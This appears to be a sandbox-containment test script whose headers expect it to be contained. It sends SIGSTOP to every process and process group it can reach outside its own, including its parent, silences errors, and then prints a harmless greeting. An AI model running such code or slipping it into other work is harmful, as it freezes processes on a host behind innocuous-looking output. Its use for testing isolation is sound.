# contained: pass
# tiers: full partial
# unless open: signals
# Sends SIGSTOP to everybody.
import os
import signal
import sys

for pid in {os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())}:
    try:
        if os.getpgid(pid) not in (0, os.getpgid(0)):
            os.kill(pid, signal.SIGSTOP)
            os.killpg(os.getpgid(pid), signal.SIGSTOP)
    except OSError:
        pass
for name in sys.argv[1:] or ["Bob"]:
    print("Hello, ", name)
